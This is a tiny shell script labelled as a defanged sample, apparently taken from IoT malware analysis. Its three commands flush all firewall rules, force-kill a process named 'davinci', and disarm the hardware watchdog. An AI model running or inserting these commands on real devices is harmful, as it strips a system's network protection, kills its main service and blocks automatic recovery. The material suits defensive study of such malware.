#!/bin/sh
# DEFANGED SAMPLE
iptables -F
killall -9 davinci
echo V > /dev/watchdog
